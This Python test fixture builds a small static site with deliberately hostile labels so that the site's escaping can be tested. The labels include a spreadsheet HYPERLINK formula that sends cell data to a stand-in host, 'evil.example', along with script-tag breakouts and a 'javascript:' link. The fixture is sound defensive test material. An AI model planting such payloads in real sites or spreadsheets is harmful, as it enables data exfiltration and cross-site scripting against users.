"""A small site whose labels are hostile (formulas, <!--<script>, links), shared by the escaping tests
and the browser test of the same labels."""

from __future__ import annotations

import json
from pathlib import Path

from pace_site.build.options import BuildOptions
from pace_site.build.pipeline import build

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Testshire") <!--<script> </script><b>&amp;'
HOSTILE_MILESTONE = '@SUM(1+1)<!--<script><a href="javascript:alert(1)">Permanence recommendation</a>'
HOSTILE_CHANGE = '-2+3 <span style="font-size:99px">huge</span></script>\u2028\u2029 &lt;x&gt;'

# JSON strings are YAML too: the labels reach the site exactly as written.
# Twelve children, so that the run chart and the waiting chart are published, not withheld.
JOURNEYS = "accommodated,recommendation\n" + "".join(
    f"2018-{month:02d}-05,{f'2019-03-{month + 1:02d}' if month <= 6 else ''}\n" for month in range(1, 13))

CHANGES = "    changes:\n      - date: 2019-03-05\n        label: {label}\n"


def hostile_site(root: Path) -> Path:
    authority = root / "content/authorities/testshire/authority.md"
    text = authority.read_text().replace("name: Testshire", f"name: {json.dumps(HOSTILE_NAME)}")
    # Per-child charts published as they are, so that every chart (and every label in it) is drawn.
    text = text.replace("joined:", "per_child: open\njoined:", 1)
    text = text.replace("    statement:", CHANGES.format(label=json.dumps(HOSTILE_CHANGE)) + "    statement:")
    authority.write_text(text)
    site_yml = root / "content/site.yml"
    site_yml.write_text(site_yml.read_text().replace("label: Permanence recommendation",
                                                     f"label: {json.dumps(HOSTILE_MILESTONE)}"))
    (root / "data/testshire/journeys.csv").write_text(JOURNEYS)
    build(BuildOptions(root / "content", root / "data", root / "site"))
    return root / "site"
